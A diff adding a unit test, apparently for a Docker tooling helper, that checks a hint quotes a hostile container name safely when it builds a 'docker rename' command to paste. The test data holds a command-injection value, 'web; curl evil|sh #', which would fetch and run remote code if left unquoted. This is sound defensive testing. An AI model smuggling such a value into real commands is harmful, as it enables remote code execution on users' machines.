@@ -77,3 +77,11 @@ it("says why sudo is no way to Docker", () => {
   expect(error?.message).toContain(sudoSaid);
   expect(error?.hint).toContain("remove `requiretty` from sudoers");
 });
+
+it("a name that a node made up is one word in a command to paste", () => {
+  const id = "0123456789ab";
+  const stderr = `The container name "/web; curl evil|sh #" is already in use by container "${id}".`;
+  expect(nameTaken(stderr, { doing: "create web", node: "n1" })?.hint).toContain(
+    "docker rename 'web; curl evil|sh #' OTHER",
+  );
+});
